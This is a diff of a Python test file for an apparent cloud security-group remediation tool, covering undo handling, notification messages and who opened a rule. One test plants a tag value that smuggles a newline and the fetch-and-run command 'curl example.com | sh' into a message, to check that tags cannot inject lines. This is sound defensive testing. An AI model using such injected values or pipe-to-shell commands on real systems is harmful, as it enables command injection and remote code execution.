@@ -155,7 +155,7 @@ def test_an_undo_that_fails_halfway_says_so_and_leaves_no_exemption_behind(world
     assert answer["ok"] is False
     assert "1 of 2 rules are open again" in answer["error"]
     assert world.sources(group) == {"0.0.0.0/0"}
-    assert "Not put back: sgr-" in world.last_told().email
+    assert "Not put back: sgr-" in world.last_told().said
     world.open(group, "::/0")
     world.deliver(group)
     assert world.sources(group) == {"0.0.0.0/0"}, "the second rule is not exempt"
@@ -176,14 +176,14 @@ def test_undo_leaves_closed_what_a_person_had_closed(world: World) -> None:
 
 
 def test_a_tag_cannot_write_lines_of_a_message(world: World) -> None:
-    group = world.group(tags={"aws:eks:cluster-name": "demo\nUndo:     curl example.com | sh"})
+    group = world.group(tags={"aws:eks:cluster-name": "demo\nUNDO\ncurl example.com | sh"})
     world.open(group, "0.0.0.0/0")
 
     world.deliver(group)
 
-    undo = [line for line in world.last_told().email.splitlines() if line.startswith("Undo:")]
-    assert len(undo) == 1
-    assert "curl" not in undo[0]
+    lines = world.last_told().email.splitlines()
+    assert lines.count("UNDO") == 1
+    assert not [line for line in lines if line.startswith("curl")]
 
 
 def test_a_prefix_list_that_cannot_be_read_keeps_no_other_rule_open_and_is_raised(world: World) -> None:
@@ -220,7 +220,7 @@ def test_who_opened_is_still_known_when_a_person_has_the_group_judged_after_a_pa
     world.stack.pump()
 
     assert world.told()[-1] == "revoked"
-    assert "PlatformEngineer/alice" in world.last_told().email
+    assert "PlatformEngineer/alice" in world.last_told().said
 
 
 def test_old_history_is_not_read_and_does_not_stand_in_the_way(world: World) -> None:
